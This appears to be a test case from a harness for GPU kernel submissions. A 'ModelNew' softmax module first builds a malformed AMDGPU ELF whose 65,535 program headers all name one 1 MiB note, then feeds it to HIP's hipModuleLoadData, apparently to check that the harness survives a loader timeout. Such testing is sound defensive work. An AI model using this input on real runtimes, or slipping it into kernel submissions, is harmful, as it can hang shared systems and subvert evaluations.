"""M09 hostile code object: 65,535 program headers that name the same large note

problem: emulated_softmax
device: emulated
backend: triton
outcome: unsupported|timeout
reason: code object|time|did not end
"""

import ctypes
import struct

import torch
import torch.nn as nn
import triton  # noqa: F401 - named as a kernel's


def loaded(code):
    """Return what HIP's runtime says to a code object."""
    module, data = ctypes.c_void_p(), ctypes.create_string_buffer(code, len(code))
    return ctypes.CDLL(None).hipModuleLoadData(ctypes.byref(module), data)


class ModelNew(nn.Module):
    def forward(self, x):
        note = (
            struct.pack("<III", 7, 1 << 20, 32)
            + b"AMDGPU\0\0"
            + b"\xdd"
            + struct.pack(">I", (1 << 20) - 5)
            + bytes((1 << 20) - 5)
        )
        count = 65535
        head = (
            b"\x7fELF\x02\x01\x01"
            + bytes(9)
            + struct.pack("<HHIQQQIHHHHHH", 3, 224, 1, 0, 64, 0, 0x4C, 64, 56, count, 64, 0, 0)
        )
        at = 64 + 56 * count
        one = struct.pack("<IIQQQQQQ", 4, 4, at, 0, 0, len(note), len(note), 4)
        loaded(head + one * count + note + struct.pack("<Q", 0))
        return torch.softmax(x, dim=-1)
